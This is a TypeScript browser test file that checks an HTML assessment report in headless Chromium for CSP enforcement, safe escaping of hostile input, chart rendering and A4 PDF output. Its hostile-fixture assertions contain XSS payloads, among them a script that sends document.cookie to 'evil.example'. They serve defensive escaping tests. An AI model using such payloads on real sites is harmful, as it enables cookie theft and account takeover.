/**
 * The HTML report in a real browser (issue #7): headless Chromium through playwright-core renders the report of both
 * example plants and of a hostile answer file, checks that nothing executes or loads, that the charts have a size,
 * and prints to A4 PDF. Chromium missing is a failure, not a skip (CI installs it in .ci/run).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXAMPLES, FIXTURES, ROOT, tempDir, zhizao } from '../helpers/cli.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const ARTIFACTS = path.join(ROOT, 'tests', 'artifacts');
const dir = tempDir('zhizao-browser-');

const REPORTS = {
  'discrete-machinery': { file: path.join(EXAMPLES, 'discrete-machinery.zhizao.yaml'), company: '郑州示例机械有限公司', lang: 'zh' },
  'process-food': { file: path.join(EXAMPLES, 'process-food.zhizao.yaml'), company: '郑州示例食品有限公司', lang: 'zh' },
  'process-food-both': { file: path.join(EXAMPLES, 'process-food.zhizao.yaml'), company: '郑州示例食品有限公司', lang: 'both' },
  hostile: { file: path.join(FIXTURES, 'hostile', 'script-names.zhizao.yaml'), company: '<script>alert(1)</script>', lang: 'both' },
} as const;
type Name = keyof typeof REPORTS;

function writeReport(name: Name): string {
  const out = path.join(dir, `${name}.html`);
  const r = zhizao(['report', REPORTS[name].file, '--format', 'html', '--report-lang', REPORTS[name].lang, '-o', out]);
  if (r.code !== 0) throw new Error(`zhizao report failed (${r.code}): ${r.stderr}`);
  return out;
}

/** Everything a page did that a report must never do. */
interface Watch {
  consoleErrors: string[];
  consoleAll: string[];
  dialogs: string[];
  pageErrors: string[];
  /** Non-local requests the page attempted, with how they ended ('csp' = blocked by the Content-Security-Policy). */
  remote: string[];
  /** Non-local requests that got past the page's CSP (they reach the context's route, which aborts them). */
  leaked: string[];
}

/** Requests that reached the network layer; the context's route aborts them so that nothing really leaves. */
const leaked: string[] = [];

async function open(context: BrowserContext, file: string): Promise<{ page: Page; watch: Watch }> {
  const page = await context.newPage();
  const start = leaked.length;
  const watch: Watch = {
    consoleErrors: [],
    consoleAll: [],
    dialogs: [],
    pageErrors: [],
    remote: [],
    get leaked() {
      return leaked.slice(start);
    },
  };
  page.on('console', (m) => {
    watch.consoleAll.push(`${m.type()}: ${m.text()}`);
    if (m.type() === 'error') watch.consoleErrors.push(m.text());
  });
  page.on('dialog', (d) => {
    watch.dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  page.on('pageerror', (e) => watch.pageErrors.push(String(e)));
  page.on('requestfailed', (r) => {
    if (!/^(file|data|about):/.test(r.url())) watch.remote.push(`${r.url()} ${r.failure()?.errorText ?? ''}`);
  });
  page.on('requestfinished', (r) => {
    if (!/^(file|data|about):/.test(r.url())) watch.remote.push(`${r.url()} finished`);
  });
  await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
  return { page, watch };
}

function countPdfPages(pdf: Buffer, file: string): number {
  const info = spawnSync('pdfinfo', [file], { encoding: 'utf8' });
  if (info.status === 0) {
    const m = /^Pages:\s+(\d+)/m.exec(info.stdout);
    if (m) return Number(m[1]);
  }
  return (pdf.toString('latin1').match(/\/Type\s*\/Page(?![s\w])/g) ?? []).length;
}

let browser: Browser;
let context: BrowserContext;
const files = {} as Record<Name, string>;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`Chromium not found at ${CHROMIUM}: the HTML report browser test needs it (apt-get install chromium, or set CHROMIUM_PATH); CI installs it in .ci/run`);
  for (const name of Object.keys(REPORTS) as Name[]) files[name] = writeReport(name);
  // playwright gives every launch a fresh, temporary user-data dir
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS, headless: true });
  context = await browser.newContext({ viewport: { width: 1000, height: 1400 } });
  // Belt and braces: nothing may leave the machine even if the page asked (the request is still recorded above).
  await context.route(/^(https?|wss?|ftp):/, (route) => {
    leaked.push(route.request().url());
    return route.abort('blockedbyclient');
  });
}, 120_000);

afterAll(async () => {
  await context?.close();
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('HTML report in Chromium', () => {
  for (const name of ['discrete-machinery', 'process-food'] as const) {
    it(`${name}: loads without errors, shows the company and both charts`, async () => {
      const { page, watch } = await open(context, files[name]);
      expect(watch.consoleErrors).toEqual([]);
      expect(watch.pageErrors).toEqual([]);
      expect(watch.dialogs).toEqual([]);
      expect(watch.remote).toEqual([]);
      expect(watch.leaked).toEqual([]);
      await expect(page.locator('.cover .company').textContent()).resolves.toContain(REPORTS[name].company);
      for (const sel of ['svg.chart.radar', 'svg.chart.bars']) {
        const box = await page.locator(sel).boundingBox();
        expect(box, sel).not.toBeNull();
        expect(box!.width).toBeGreaterThan(100);
        expect(box!.height).toBeGreaterThan(100);
      }
      // the radar has its value polygon, the bars have bars and target markers
      expect(await page.locator('svg.radar polygon.value').count()).toBe(1);
      expect(await page.locator('svg.bars rect.bar').count()).toBeGreaterThanOrEqual(3);
      // Ratio indicators with a target draw a target line (the design-tool share is a share of companies: no bar).
      expect(await page.locator('svg.bars line.target').count()).toBeGreaterThanOrEqual(1);
      expect(await page.locator('script').count()).toBe(0);
      await page.close();
    });
  }

  it('bilingual report: English on a lighter second line in headings', async () => {
    const { page } = await open(context, files['process-food-both']);
    const h2en = page.locator('#s1 h2 .en');
    await expect(h2en.textContent()).resolves.toBe('Scope and method');
    const style = await h2en.evaluate((el) => {
      const s = getComputedStyle(el);
      return { display: s.display, color: s.color };
    });
    expect(style.display).toBe('block');
    expect(style.color).not.toBe('rgb(31, 35, 40)');
    await page.close();
  });

  it('CSP forbids scripts and remote loads: injected fetch, image and script are blocked and nothing leaves', async () => {
    const { page, watch } = await open(context, files['discrete-machinery']);
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toMatch(/script-src|'unsafe-eval'|https?:/);
    // Page scripts are what CSP stops; DevTools evaluation is not a page script, so use it to try loads as a page would.
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const img = document.createElement('img');
      img.src = 'https://example.com/pixel.png';
      document.body.append(img);
      const s = document.createElement('script');
      s.src = 'https://example.com/x.js';
      document.body.append(s);
      const inline = document.createElement('script');
      inline.textContent = 'window.__ran = true';
      document.body.append(inline);
      const fetched = await fetch('https://example.com/data').then(
        () => 'fetched',
        () => 'blocked',
      );
      await new Promise((r) => setTimeout(r, 300));
      return { seen, fetched, ran: (window as unknown as { __ran?: boolean }).__ran === true };
    });
    expect(violations.fetched).toBe('blocked');
    expect(violations.ran).toBe(false);
    expect(violations.seen.join('\n')).toMatch(/img-src https:\/\/example\.com/);
    expect(violations.seen.join('\n')).toMatch(/connect-src https:\/\/example\.com/);
    expect(violations.seen.join('\n')).toMatch(/script-src/);
    expect(watch.consoleAll.join('\n')).toMatch(/Content Security Policy/);
    // every attempted remote load was stopped by the CSP inside the page; none reached the network layer
    expect(watch.remote.length).toBeGreaterThanOrEqual(2);
    for (const r of watch.remote) expect(r).toMatch(/ csp$/);
    expect(watch.leaked).toEqual([]);
    await page.close();
  });

  it('hostile names and notes execute nothing and appear only as text', async () => {
    const { page, watch } = await open(context, files.hostile);
    // give any handler a chance: hover and click every element that could carry one, scroll through the page
    await page.mouse.move(200, 200);
    await page.locator('.cover .company').click();
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    await page.waitForTimeout(300);
    expect(watch.dialogs).toEqual([]);
    expect(watch.pageErrors).toEqual([]);
    expect(watch.consoleErrors).toEqual([]);
    expect(watch.remote).toEqual([]);
    expect(watch.leaked).toEqual([]);
    const dom = await page.evaluate(() => {
      const all = [...document.querySelectorAll('*')];
      return {
        scripts: document.querySelectorAll('script').length,
        handlers: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
        jsLinks: all.filter((el) => [...el.attributes].some((a) => /^\s*javascript:/i.test(a.value))).map((el) => el.tagName),
        remote: all.filter((el) => [...el.attributes].some((a) => /^(src|href|action|data|xlink:href)$/i.test(a.name) && !/^#/.test(a.value))).map((el) => el.tagName),
        embeds: document.querySelectorAll('img, iframe, object, embed, link, base, form, meta[http-equiv="refresh"]').length,
        styles: document.querySelectorAll('style').length,
        title: document.title,
        company: document.querySelector('.cover .company')?.textContent ?? '',
        notes: [...document.querySelectorAll('.note')].map((n) => n.textContent ?? ''),
        summary: document.querySelector('.summary')?.textContent ?? '',
        ran: (window as unknown as { __ran?: boolean }).__ran === true,
      };
    });
    expect(dom.scripts).toBe(0);
    expect(dom.handlers).toEqual([]);
    expect(dom.jsLinks).toEqual([]);
    expect(dom.remote).toEqual([]);
    expect(dom.embeds).toBe(0);
    expect(dom.styles).toBe(1);
    expect(dom.title).toContain('<script>alert(1)</script>');
    expect(dom.company).toContain('<script>alert(1)</script> · <img src=x onerror=alert(1)>');
    expect(dom.notes.join('\n')).toContain('<img src=x onerror=alert(1)> 4 of 10 on CNC');
    expect(dom.notes.join('\n')).toContain('javascript:alert(document.cookie)');
    expect(dom.summary).toContain("<script>fetch('https://evil.example/?c='+document.cookie)</script>");
    await page.close();
  });

  it('prints to A4 PDF with a plausible, stable page count; saves a screenshot of the first page', async () => {
    for (const name of ['discrete-machinery', 'process-food'] as const) {
      const { page, watch } = await open(context, files[name]);
      const majors = await page.locator('.major').count();
      const pdf1 = await page.pdf({ format: 'A4', printBackground: true });
      const pdf2 = await page.pdf({ format: 'A4', printBackground: true });
      const file = path.join(dir, `${name}.pdf`);
      writeFileSync(file, pdf1);
      const pages = countPdfPages(pdf1, file);
      // cover + a page per forced section break at least; the examples' content (full interviews, every answer in the
      // appendix) fills fewer than 60 pages
      expect(pages).toBeGreaterThanOrEqual(majors + 2);
      expect(pages).toBeGreaterThanOrEqual(5);
      expect(pages, `${name}: ${pages} pages`).toBeLessThanOrEqual(60);
      expect(countPdfPages(pdf2, file)).toBe(pages);
      // every page is A4 portrait (595 × 842 pt)
      const boxes = [...pdf1.toString('latin1').matchAll(/\/MediaBox\s*\[\s*0\s+0\s+([\d.]+)\s+([\d.]+)\s*\]/g)].map((m) => [Number(m[1]), Number(m[2])]);
      expect(boxes.length).toBeGreaterThan(0);
      for (const [w, h] of boxes) {
        expect(Math.abs(w! - 595.3)).toBeLessThan(2);
        expect(Math.abs(h! - 841.9)).toBeLessThan(2);
      }
      expect(watch.remote).toEqual([]);
      expect(watch.leaked).toEqual([]);
      if (name === 'discrete-machinery') {
        mkdirSync(ARTIFACTS, { recursive: true });
        await page.emulateMedia({ media: 'print' });
        await page.setViewportSize({ width: 794, height: 1123 }); // A4 at 96 dpi
        const shot = path.join(ARTIFACTS, 'report-first-page.png');
        await page.locator('section.cover').screenshot({ path: shot });
        expect(readFileSync(shot).subarray(1, 4).toString('latin1')).toBe('PNG');
      }
      await page.close();
    }
  }, 120_000);
});
